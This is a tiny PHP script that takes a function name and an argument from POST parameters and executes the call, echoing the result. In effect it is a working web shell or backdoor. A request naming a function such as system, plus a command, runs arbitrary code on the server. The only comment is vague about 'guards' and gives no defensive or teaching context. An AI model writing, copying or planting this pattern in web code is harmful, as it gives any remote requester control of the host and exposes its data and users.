<?php
// a callback and its argument picked through the guards that test them
$f = isset($_POST['f']) && !empty($_POST['f']) ? $_POST['f'] : $default;
$a = !empty($_POST['a']) ? $_POST['a'] : null;
echo $f($a);
